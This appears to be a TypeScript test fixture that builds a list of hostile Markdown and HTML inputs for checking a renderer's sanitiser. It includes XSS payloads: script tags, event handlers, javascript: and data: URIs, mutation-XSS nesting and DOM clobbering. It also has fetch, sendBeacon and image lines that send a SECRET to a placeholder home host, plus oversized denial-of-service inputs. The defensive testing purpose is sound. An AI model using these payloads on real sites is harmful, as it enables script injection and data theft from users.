/** Markdown that wants to run scripts or to call home, for the page. `HOME` stands for an address that must never be asked. */

const scripts = [
  'window.hit=1',
  'document.title="hit"',
  'fetch("HOME/f")',
  'new Image().src="HOME/i"',
  'alert(1)',
  'location="HOME/l"',
  'navigator.sendBeacon("HOME/b","x")',
  'eval("window.hit=1")',
] as const;

const raw = (script: string): string[] => [
  `<script>${script}</script>`,
  `<SCRIPT SRC="HOME/s.js"></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img src=x onerror='${script}'>`,
  `<img src="HOME/x.png" onload='${script}'>`,
  `<svg onload='${script}'><circle r=1 /></svg>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin='${script}' attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror='${script}'>`,
  `<math href="javascript:${script}">m</math>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe>`,
  `<object data="HOME/o.swf"></object>`,
  `<embed src="HOME/e">`,
  `<body onload='${script}'>`,
  `<details open ontoggle='${script}'>x</details>`,
  `<video autoplay onplay='${script}'><source src="HOME/v.mp4"></video>`,
  `<audio src="HOME/a.mp3" autoplay></audio>`,
  `<input autofocus onfocus='${script}'>`,
  `<form action="HOME/form"><button>go</button></form><script>document.forms[0].submit()</script>`,
  `<link rel=stylesheet href="HOME/c.css">`,
  `<link rel=preload href="HOME/p" as=fetch>`,
  `<style>@import "HOME/i.css"; * { background: url(HOME/bg.png) }</style>`,
  `<div style="background:url(HOME/d.png)">x</div>`,
  `<base href="HOME/">`,
  `<meta http-equiv=refresh content="0;url=HOME/m">`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${script}'>">`,
  `<a href="javascript:${script}" autofocus onfocus='${script}'>x</a>`,
  `<x onpointerrawupdate='${script}' style="position:fixed;inset:0">x</x>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${script}'>`,
  `<a id=hit name=hit>clobber</a><form id=document name=body></form>`,
];

const inline = (script: string): string[] => [
  `[x](javascript:${script.replace(/[()]/g, '')})`,
  `[x](JaVaScRiPt:alert`,
  `[x](&#106;avascript:${script.replace(/[()]/g, '')})`,
  `[x](java\nscript:hit)`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=)`,
  `[x](vbscript:hit)`,
  `[x](<javascript:hit>)`,
  `<javascript:hit>`,
  `![SECRET](HOME/img.png?q=SECRET)`,
  `![x](HOME/y.svg "t\\"onerror=${script.replace(/[()]/g, '')}")`,
  `![x](data:image/svg+xml,%3Csvg%20onload=hit%3E)`,
  `[![x](HOME/in-link.png)](javascript:hit)`,
  `![x][ref]\n\n[ref]: HOME/ref.png "x"`,
  `[x][js]\n\n[js]: javascript:hit`,
  `<HOME/autolink.png>`,
  `HOME/bare.png`,
  '`<img src=x onerror=window.hit=1>`',
  `**<b onmouseover='${script}'>bold**`,
  `~~<img src=x onerror='${script}'>~~`,
  `\\<img src=x onerror='${script}'>`,
  `&lt;img src=x onerror='${script}'&gt;`,
];

const blocks = (script: string): string[] => [
  `\`\`\`html\n<img src=x onerror='${script}'>\n\`\`\``,
  '```"><img src=x onerror=window.hit=1>\ncode\n```',
  '```javascript\n</code></pre><script>window.hit=1</script>',
  '```mermaid\ngraph TD; A["<img src=x onerror=window.hit=1>"]-->B\n```',
  `$$\\href{javascript:hit}{x}$$`,
  `> <script>${script}</script>\n> > <img src=x onerror='${script}'>`,
  `- <iframe src="HOME/li">\n  - ![x](HOME/li.png)`,
  `| <img src=x onerror='${script}'> | ![x](HOME/t.png) |\n|---|---|\n| <script>${script}</script> | [y](javascript:hit) |`,
  `# <img src=x onerror='${script}'>`,
  `1. [ ] <input autofocus onfocus='${script}'>\n2. [x] ![x](HOME/task.png)`,
  `<!-- <script>${script}</script> --> <!--><img src=x onerror='${script}'>-->`,
  `<![CDATA[<img src=x onerror='${script}'>]]>`,
  `<?xml version="1.0"?><?php echo "<script>${script}</script>"; ?>`,
  `text <div\nonclick='${script}'\n>`,
  `<img src=x onerror='${script}'`,
];

const heavy = [
  '> '.repeat(5000) + 'deep',
  '- '.repeat(3000) + 'deep',
  '['.repeat(5000) + ']'.repeat(5000),
  '*'.repeat(5000),
  '`'.repeat(5001) + ' x',
  '<'.repeat(10_000),
  '![x]('.repeat(2000),
  `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n|${'b|'.repeat(2000)}`,
  'x'.repeat(100_000),
  '\u202e\u2066<script>window.hit=1</script>\u0000\u001b[31m',
  '\ud800<img src=x onerror=window.hit=1>\udfff',
] as const;

/** All of them, each once. */
export function hostileMarkdown(home: string): string[] {
  const made = scripts.flatMap((script) => [...raw(script), ...inline(script), ...blocks(script)]);
  return [...new Set([...made, ...heavy])].map((text) => text.replaceAll('HOME', home));
}
